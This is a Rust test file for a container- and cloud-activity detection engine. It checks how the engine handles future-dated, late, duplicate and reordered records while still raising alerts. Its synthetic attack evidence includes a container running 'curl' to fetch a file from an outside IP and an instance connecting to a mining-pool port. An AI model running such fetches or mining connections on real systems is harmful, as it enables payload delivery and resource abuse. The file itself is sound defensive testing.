//! Event time under attack: records dated far into the future must not move the
//! watermark (which would make every later record late), records too late are counted
//! and located, and duplicates are counted once.

use pullwatch_engine::config::Config;
use pullwatch_engine::Engine;
use pullwatch_model::{
    ContainerLifecycle, ContainerRef, Event, EventKind, Format, ImagePull, ImageRef,
    LifecyclePhase, Placement, ProcessExec, SourceRef, Ts,
};
use std::sync::Arc;

const SEC: i64 = 1_000_000_000;
const T0: i64 = 1_795_165_200 * SEC;
/// 2099-01-01T00:00:00Z
const Y2099: i64 = 4_070_908_800 * SEC;
const ID: &str = "3f9c2a7d1e8b4c6a9d0e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d";
const IMAGE: &str = "kitty0x/toolbox:latest";

fn at(t: i64, line: u64, kind: EventKind) -> Event {
    Event::new(
        Ts(t),
        SourceRef {
            format: Format::DockerEvents,
            path: Arc::from("events.jsonl"),
            line,
        },
        kind,
    )
}

fn cref(id: &str) -> ContainerRef {
    ContainerRef {
        id: Some(id.into()),
        image: Some(ImageRef::parse(IMAGE)),
        ..ContainerRef::default()
    }
}

fn lifecycle(id: &str, phase: LifecyclePhase) -> EventKind {
    EventKind::Container(ContainerLifecycle {
        container: cref(id),
        phase,
        pid: None,
        sandbox: false,
        detail: "lifecycle".into(),
    })
}

/// Pull, create, start at T0..T0+3s and `curl` 40 s later.
fn chain() -> Vec<(i64, EventKind)> {
    vec![
        (
            T0,
            EventKind::ImagePull(ImagePull {
                host: None,
                image: ImageRef::parse(IMAGE),
                for_container: None,
                detail: "pull".into(),
            }),
        ),
        (T0 + 2 * SEC, lifecycle(ID, LifecyclePhase::Create)),
        (T0 + 3 * SEC, lifecycle(ID, LifecyclePhase::Start)),
        (
            T0 + 40 * SEC,
            EventKind::Process(ProcessExec {
                lineage: Default::default(),
                placement: Placement::Container(cref(ID)),
                pid: Some(7),
                ppid: Some(1),
                exe: "/usr/bin/curl".into(),
                cmdline: "curl -s http://198.51.100.23/x".into(),
                parent_exe: None,
                user: None,
            }),
        ),
    ]
}

fn run(
    cfg: Config,
    events: Vec<(i64, EventKind)>,
) -> (usize, pullwatch_engine::stats::EngineStats) {
    let mut engine = Engine::new(cfg);
    let mut alerts = Vec::new();
    for (i, (t, k)) in events.into_iter().enumerate() {
        engine.push(at(t, i as u64 + 1, k), &mut alerts);
    }
    engine.finish(&mut alerts);
    (alerts.len(), engine.stats())
}

fn noise(n: i64) -> Vec<(i64, EventKind)> {
    (0..n)
        .map(|i| {
            let id = format!("{i:012x}");
            (
                T0 + 50 * SEC + i * 30 * SEC,
                lifecycle(&id, LifecyclePhase::Create),
            )
        })
        .collect()
}

#[test]
fn a_2099_record_first_in_the_input_does_not_make_the_rest_late() {
    let mut events = vec![(Y2099, lifecycle("ffffffffffff", LifecyclePhase::Create))];
    events.extend(chain());
    events.extend(noise(20));
    let (alerts, s) = run(Config::default(), events);
    assert_eq!(alerts, 1, "{s:#?}");
    assert_eq!(s.late, 0, "{s:#?}");
    assert_eq!(s.future, 1);
    assert_eq!(s.future_first[0].path, "events.jsonl");
    assert_eq!(s.future_first[0].line, 1);
    assert_eq!(s.future_first[0].ahead, "26339d15h");
    // It is still correlated, at its own time: nothing is dropped.
    assert_eq!(s.events, 25);
    assert_eq!(s.containers_tracked, 22);
}

#[test]
fn a_2099_record_in_the_middle_is_held_without_moving_time() {
    let mut events = chain();
    events.insert(
        2,
        (Y2099, lifecycle("ffffffffffff", LifecyclePhase::Create)),
    );
    events.extend(noise(20));
    let (alerts, s) = run(Config::default(), events);
    assert_eq!((alerts, s.late, s.future), (1, 0, 1), "{s:#?}");
    assert_eq!(s.future_first[0].line, 3);
    assert_eq!(s.future_first[0].ahead, "26339d14h59m58s");
}

#[test]
fn a_skew_within_max_future_skew_moves_time_as_usual() {
    // 30 minutes ahead is within the 1h default: it is the new present, and a record
    // from before it (beyond the allowed lateness) is late once the present goes on.
    let mut events = vec![
        (T0, lifecycle("aaaaaaaaaaaa", LifecyclePhase::Create)),
        (
            T0 + 1800 * SEC,
            lifecycle("bbbbbbbbbbbb", LifecyclePhase::Create),
        ),
        (
            T0 + 60 * SEC,
            lifecycle("cccccccccccc", LifecyclePhase::Create),
        ),
    ];
    // Last in the input, nothing shows it was a straggler: the input restarted there.
    let (_, s) = run(Config::default(), events.clone());
    assert_eq!((s.late, s.future, s.rewinds), (0, 0, 1), "{s:#?}");
    assert_eq!(s.rewind_first[0].line, 3);
    assert_eq!(s.rewind_first[0].back, "27m");
    events.push((
        T0 + 1801 * SEC,
        lifecycle("dddddddddddd", LifecyclePhase::Create),
    ));
    let (_, s) = run(Config::default(), events.clone());
    assert_eq!((s.late, s.future, s.rewinds), (1, 0, 0), "{s:#?}");
    assert_eq!(s.late_first[0].line, 3);
    assert_eq!(s.late_first[0].behind, "27m");
    // With a tighter skew, the same record is dated ahead instead, and nothing is late.
    events.truncate(3);
    let cfg = Config::from_yaml("max_future_skew: 10m\n", "cfg").expect("config");
    let (_, s) = run(cfg, events);
    assert_eq!((s.late, s.future), (0, 1));
    assert_eq!(s.future_first[0].line, 2);
}

#[test]
fn a_lone_record_from_the_past_is_late_not_a_reason_to_restart_time() {
    // Many records agree on the present; one from 1999 does not outvote them.
    let mut events = noise(5);
    events.push((
        946_684_800 * SEC,
        lifecycle("dddddddddddd", LifecyclePhase::Create),
    ));
    events.extend(chain().into_iter().map(|(t, k)| (t + 600 * SEC, k)));
    let (alerts, s) = run(Config::default(), events);
    assert_eq!((alerts, s.late, s.future), (1, 1, 0), "{s:#?}");
    assert_eq!(s.late_first[0].line, 6);
}

#[test]
fn future_records_forced_out_of_a_full_buffer_do_not_drag_time_along() {
    let mut cfg = Config::default();
    cfg.limits.max_pending_events = 2;
    let mut events = chain();
    events.insert(
        1,
        (Y2099, lifecycle("ffffffffffff", LifecyclePhase::Create)),
    );
    events.insert(
        2,
        (
            Y2099 + SEC,
            lifecycle("eeeeeeeeeeee", LifecyclePhase::Create),
        ),
    );
    let (alerts, s) = run(cfg, events);
    assert_eq!((alerts, s.late, s.future), (1, 0, 2), "{s:#?}");
    assert!(s.reorder_forced > 0);
}

#[test]
fn the_same_fact_twice_is_counted_once() {
    let mut events = Vec::new();
    for (t, k) in chain() {
        events.push((t, k.clone()));
        events.push((t, k));
    }
    let mut engine = Engine::new(Config::default());
    let mut alerts = Vec::new();
    for (i, (t, k)) in events.into_iter().enumerate() {
        let mut e = at(t, i as u64 + 1, k);
        // What a decoder does for records that repeat one fact (audit stages).
        e.dedupe = Some(format!("fact-{}", i / 2).into_boxed_str());
        engine.push(e, &mut alerts);
    }
    engine.finish(&mut alerts);
    assert_eq!(alerts.len(), 1);
    assert_eq!(engine.stats().duplicates, 4);
}

#[test]
fn after_an_archive_gap_the_new_present_is_not_reported_as_dated_ahead() {
    // A hunt over two weeks of archive: a week of quiet between them, so every record
    // of the second week lies far ahead of the first. Once enough of them agree, time
    // moves on; they were the present all along, and only a record that stays ahead
    // of everything counts as dated ahead.
    let mut events = noise(5);
    let week = 7 * 24 * 3600 * SEC;
    events.extend((0..100).map(|i| {
        let id = format!("b{i:011x}");
        (T0 + week + i * SEC, lifecycle(&id, LifecyclePhase::Create))
    }));
    events.extend(chain().into_iter().map(|(t, k)| (t + week + 200 * SEC, k)));
    events.push((Y2099, lifecycle("ffffffffffff", LifecyclePhase::Create)));
    let (alerts, s) = run(Config::default(), events);
    assert_eq!((alerts, s.late), (1, 0), "{s:#?}");
    assert_eq!(s.future, 1, "{s:#?}");
    assert_eq!(s.future_first.len(), 1);
    assert_eq!(s.future_first[0].line, 5 + 100 + chain().len() as u64 + 1);
}

/// `chain()` for container `id`, `offset` later.
fn chain_of(id: &str, offset: i64) -> Vec<(i64, EventKind)> {
    chain()
        .into_iter()
        .map(|(t, k)| {
            let k = match k {
                EventKind::Container(mut l) => {
                    l.container.id = Some(id.into());
                    EventKind::Container(l)
                }
                EventKind::Process(mut p) => {
                    p.placement = Placement::Container(cref(id));
                    EventKind::Process(p)
                }
                k => k,
            };
            (t + offset, k)
        })
        .collect()
}

/// `n` containers of a trusted image created, named `prefix…`, from `offset` on.
fn quiet(prefix: char, n: i64, offset: i64) -> Vec<(i64, EventKind)> {
    noise(n)
        .into_iter()
        .enumerate()
        .map(|(i, (t, _))| {
            let id = format!("{prefix}{i:011x}");
            (t + offset, lifecycle(&id, LifecyclePhase::Create))
        })
        .collect()
}

fn run_alerts(
    events: Vec<(i64, EventKind)>,
) -> (
    Vec<pullwatch_model::Alert>,
    pullwatch_engine::stats::EngineStats,
) {
    let mut engine = Engine::new(Config::default());
    let mut alerts = Vec::new();
    for (i, (t, k)) in events.into_iter().enumerate() {
        engine.push(at(t, i as u64 + 1, k), &mut alerts);
    }
    engine.finish(&mut alerts);
    (alerts, engine.stats())
}

const HOUR: i64 = 3600 * SEC;
const A: &str = "aaaaaaaaaaaa1111aaaaaaaaaaaa1111aaaaaaaaaaaa1111aaaaaaaaaaaa1111";
const B: &str = "bbbbbbbbbbbb2222bbbbbbbbbbbb2222bbbbbbbbbbbb2222bbbbbbbbbbbb2222";

#[test]
fn two_archives_concatenated_in_the_wrong_order_give_the_alerts_of_both() {
    // cat 10h.log 09h.log: the second file starts before the first ends, beyond the
    // allowed lateness. Its records are not late: once enough of them agree, time
    // restarts from them. Within the max_future_skew (1h) 32 are enough, further back
    // 64 are needed, and at the end of the input any that are pending. Then a record
    // late within the second file is late there, not one more of the run.
    for (offset, quiet_after, back, straggler) in [
        (40 * 60 * SEC, 40, "48m20s", true),
        (HOUR, 70, "1h8m20s", true),
        (HOUR, 40, "1h8m20s", false),
        (HOUR, 0, "1h8m20s", false),
    ] {
        let mut events = chain_of(A, offset);
        events.extend(quiet('a', 20, offset));
        let restart = events.len() as u64 + 1;
        events.extend(chain_of(B, 0));
        events.extend(quiet('b', quiet_after, 0));
        if straggler {
            let last = events.last().expect("a record").0;
            events.push((
                T0 + 60 * SEC,
                lifecycle("c00000000001", LifecyclePhase::Create),
            ));
            events.push((
                last + SEC,
                lifecycle("c00000000002", LifecyclePhase::Create),
            ));
        }
        let (alerts, s) = run_alerts(events);
        let case = format!("{offset} {quiet_after}");
        assert_eq!(alerts.len(), 2, "{case}: {s:#?}");
        assert_eq!(
            (s.late, s.rewinds, s.future),
            (u64::from(straggler), 1, 0),
            "{case}: {s:#?}"
        );
        assert_eq!(s.rewind_first[0].line, restart, "{case}");
        // The first file's latest record is 10m20s after its start, the watermark 2m
        // before that.
        assert_eq!(s.rewind_first[0].back, back, "{case}");
        let mut times: Vec<Ts> = alerts.iter().map(|a| a.time).collect();
        times.sort();
        assert_eq!(times, vec![Ts(T0 + 40 * SEC), Ts(T0 + offset + 40 * SEC)]);
    }
}

#[test]
fn a_pull_later_in_event_time_does_not_join_a_chain_after_a_rewind() {
    // The first file pulls the image at 09:20; the second, from 09:00, starts a
    // container of it and runs curl. The pull came first in the input but after the
    // activity in time: it is no part of that chain.
    let mut events = vec![(
        T0 + 1200 * SEC,
        EventKind::ImagePull(ImagePull {
            host: None,
            image: ImageRef::parse(IMAGE),
            for_container: None,
            detail: "pull".into(),
        }),
    )];
    events.extend(quiet('a', 10, 1200 * SEC));
    events.extend(chain_of(B, 0).into_iter().skip(1));
    events.extend(quiet('b', 40, 0));
    let (alerts, s) = run_alerts(events);
    assert_eq!((s.late, s.rewinds), (0, 1), "{s:#?}");
    // The image is not allowlisted: the start and curl alone make a chain, without
    // the pull.
    assert_eq!(alerts.len(), 1, "{s:#?}");
    for a in &alerts {
        assert!(
            a.evidence.iter().all(|e| e.time <= Ts(T0 + 40 * SEC)),
            "{:#?}",
            a.evidence
        );
        assert!(a.evidence.iter().all(|e| e.stage != "pull"));
    }
}

#[test]
fn activity_before_a_container_started_does_not_complete_its_chain_after_a_rewind() {
    // The first file pulls, creates and starts container A at 10:00; the second, from
    // 09:00, has curl in A. Correlated after the rewind, it precedes A's chain.
    let mut events = chain_of(A, HOUR);
    events.pop();
    events.extend(quiet('a', 10, HOUR));
    events.push(chain_of(A, 0).pop().expect("the curl"));
    events.extend(quiet('b', 40, 0));
    let (alerts, s) = run_alerts(events);
    assert!(alerts.is_empty(), "{alerts:#?}");
    assert_eq!((s.late, s.rewinds), (0, 1), "{s:#?}");
    assert_eq!(
        s.activity.get("activity before the chain's start"),
        Some(&1)
    );
}

fn launch(instance: &str) -> EventKind {
    use pullwatch_model::cloud::{
        CloudAction, CloudEvent, CloudProvider, UserDataState, VmImage, VmImageKind, VmLaunch,
    };
    EventKind::Cloud(CloudEvent {
        provider: CloudProvider::Aws,
        account: Some("111122223333".into()),
        region: Some("eu-west-1".into()),
        actor: None,
        action: CloudAction::InstanceLaunch(Box::new(VmLaunch {
            instance_id: instance.into(),
            image: Some(VmImage::new("ami-0f9e8d7c6b5a49382", VmImageKind::Ami)),
            private_ips: vec!["10.20.1.16".parse().expect("ip")],
            names: Vec::new(),
            subnet: None,
            vpc: None,
            tags: Vec::new(),
            user_data: UserDataState::Absent,
            startup_script_url: None,
            launch_template: None,
            launched_at: None,
        })),
    })
}

fn stratum(instance: &str) -> EventKind {
    EventKind::Connection(pullwatch_model::Connection {
        placement: Placement::Host { host: None },
        pid: None,
        exe: None,
        src: Some("10.20.1.16".parse().expect("ip")),
        src_port: Some(49152),
        dst: "45.155.205.233".parse().expect("ip"),
        dst_port: Some(3333),
        proto: Some("tcp".into()),
        instance_id: Some(instance.into()),
    })
}

#[test]
fn a_connection_before_its_instance_launched_does_not_complete_a_chain_after_a_rewind() {
    const I: &str = "i-0b2c3d4e5f6071829";
    // In order, the launch and a stratum connection 5 minutes later are a chain.
    let mut events = vec![(T0, launch(I)), (T0 + 300 * SEC, stratum(I))];
    events.extend(quiet('a', 10, 0));
    let (alerts, _) = run_alerts(events);
    assert_eq!(alerts.len(), 1);
    // The first file launches the instance at 09:40; the second, from 09:00, has the
    // connection at 09:05: correlated after the rewind, it precedes the launch.
    let mut events = vec![(T0 + 2400 * SEC, launch(I))];
    events.extend(quiet('a', 10, 2400 * SEC));
    events.push((T0 + 300 * SEC, stratum(I)));
    events.extend(quiet('b', 40, 300 * SEC));
    let (alerts, s) = run_alerts(events);
    assert!(alerts.is_empty(), "{alerts:#?}");
    assert_eq!((s.late, s.rewinds), (0, 1), "{s:#?}");
    assert_eq!(
        s.activity.get("guest activity before the launch"),
        Some(&1),
        "{s:#?}"
    );
}
